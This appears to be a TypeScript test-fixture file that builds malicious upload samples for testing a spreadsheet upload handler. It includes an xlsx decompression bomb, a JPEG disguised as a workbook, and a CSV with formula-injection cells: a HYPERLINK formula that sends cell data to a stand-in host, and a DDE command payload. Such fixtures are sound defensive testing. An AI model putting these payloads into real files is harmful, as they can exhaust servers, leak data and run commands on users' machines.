import { deflateRawSync } from 'node:zlib';

import type { Upload } from './fixtures.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';

type Entry = { name: string; packed: Buffer; size: number; at: number };

/** The header an entry has in front of its bytes (`PK\x03\x04`) and again in the directory (`PK\x01\x02`). */
function headerOf({ name, packed, size, at }: Entry, directory: boolean): Buffer {
  const header = Buffer.alloc(directory ? 46 : 30);
  const shift = directory ? 2 : 0;
  header.writeUInt32LE(directory ? 0x02014b50 : 0x04034b50, 0);
  header.writeUInt16LE(20, 4 + shift);
  header.writeUInt16LE(8, 8 + shift);
  header.writeUInt32LE(packed.length, 18 + shift);
  header.writeUInt32LE(size, 22 + shift);
  header.writeUInt16LE(name.length, 26 + shift);
  if (directory) header.writeUInt32LE(at, 42);
  return Buffer.concat([header, Buffer.from(name)]);
}

/** A workbook of a few dozen kilobytes that unpacks to 60 MB of blanks. */
export function packedBomb(): Upload {
  const parts: [string, string][] = [
    ['[Content_Types].xml', '<Types/>'],
    ['xl/workbook.xml', '<workbook/>'],
    ['xl/worksheets/sheet1.xml', `<worksheet><!--${' '.repeat(60 * 1024 * 1024)}--></worksheet>`],
  ];
  const entries: Entry[] = [];
  let at = 0;
  for (const [name, text] of parts) {
    const packed = deflateRawSync(text);
    entries.push({ name, packed, size: Buffer.byteLength(text), at });
    at += 30 + name.length + packed.length;
  }
  const bodies = entries.flatMap((entry) => [headerOf(entry, false), entry.packed]);
  const directory = Buffer.concat(entries.map((entry) => headerOf(entry, true)));
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(at, 16);
  return { name: 'bom.xlsx', mimeType: XLSX, buffer: Buffer.concat([...bodies, directory, end]) };
}

/** A picture that calls itself a workbook. */
export const disguisedPicture = (): Upload => ({
  name: 'foto.xlsx',
  mimeType: XLSX,
  buffer: Buffer.from([
    0xff,
    0xd8,
    0xff,
    0xe0,
    0,
    0x10,
    0x4a,
    0x46,
    0x49,
    0x46,
    ...Array.from({ length: 99 }, () => 7),
  ]),
});

/** A table of thirty columns whose cells are what a spreadsheet program would run. */
export function wideFormulas(): Upload {
  const columns = Array.from({ length: 30 }, (_, i) => i + 1);
  const rows = [
    columns.map((n) => (n === 1 ? 'NIM' : n === 2 ? 'Nama' : `Kolom ${n}`)),
    columns.map(() => '=HYPERLINK("http://contoh.test?"&A1;"klik")'),
    columns.map(() => "=cmd|' /C calc'!A0"),
  ];
  const text = rows.map((row) => row.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(';')).join('\r\n');
  return { name: 'lebar.csv', mimeType: 'text/csv', buffer: Buffer.from(text) };
}
